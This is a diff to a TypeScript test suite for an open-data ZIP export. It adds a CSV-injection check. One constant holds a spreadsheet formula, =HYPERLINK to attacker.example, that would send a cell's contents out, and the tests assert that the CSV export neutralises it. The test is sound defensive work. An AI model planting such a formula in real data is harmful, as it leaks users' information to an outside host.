@@ -109,6 +109,9 @@ describe('the ZIP writer', () => {
   });
 });
 
+/** What a spreadsheet would run if a CSV cell began with it. */
+const FORMULA_SOURCE = '=HYPERLINK("https://attacker.example/?d="&A1,"Roster")';
+
 describe('the open-data ZIP of the demo', () => {
   let ctx: Ctx & { close(): Promise<void> };
   let root: string;
@@ -127,6 +130,7 @@ describe('the open-data ZIP of the demo', () => {
     const day = now.toISOString().slice(0, 10);
     await addMember(ctx, LOCAL, { organization: 'sindicato-sur', pseudonym: 'Calandria', realName: PRIVATE.realName, contact: PRIVATE.contact });
     await recordObservation(ctx, LOCAL, { alliance, party: 'sindicato-sur', indicator: 'executive-authority-holders', at: day, value: '7', source: 'Roster', evidence: PRIVATE.evidence });
+    await recordObservation(ctx, LOCAL, { alliance, party: 'sindicato-sur', indicator: 'executive-authority-holders', at: day, value: '6', source: FORMULA_SOURCE });
     const active = (await listSupport(ctx, alliance)).commitments.find((c) => c.status === 'active')!;
     await recordTransaction(ctx, LOCAL, { alliance, commitment: active.id, occurredOn: day, amount: '12.34', currency: 'EUR', sourceDisclosed: false, source: PRIVATE.source, receipt: false });
     const built = await buildOpenData(ctx);
@@ -165,13 +169,18 @@ describe('the open-data ZIP of the demo', () => {
         expect(fields.length).toBe(header!.length);
         header!.forEach((col, k) => {
           const v = list[i]![col];
-          const want = v === undefined || v === null ? '' : typeof v === 'object' ? JSON.stringify(v) : String(v);
+          const want = v === undefined || v === null ? '' : typeof v === 'object' ? JSON.stringify(v) : typeof v === 'string' && /^[=+\-@\t\r]/.test(v) ? `'${v}` : String(v);
           expect(fields[k], `${kind}[${i}].${col}`).toBe(want);
         });
       });
     }
     // a field with commas, quotes or line breaks survives: the covenant drafts' rationales, feedback texts
     expect(json('feedback').every((f) => typeof f.text === 'string' && f.text !== '')).toBe(true);
+    // a text a spreadsheet would run (OWASP CSV injection) is text in the CSV, exact in the JSON
+    expect(json('observations').find((o) => o.source === FORMULA_SOURCE)).toBeDefined();
+    const csv = members.get('csv/observations.csv')!.toString('utf8');
+    expect(csv).toContain(`"'${FORMULA_SOURCE.replaceAll('"', '""')}"`);
+    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
   });
 
   it('keeps out every private value, and says an undisclosed source was undisclosed', () => {
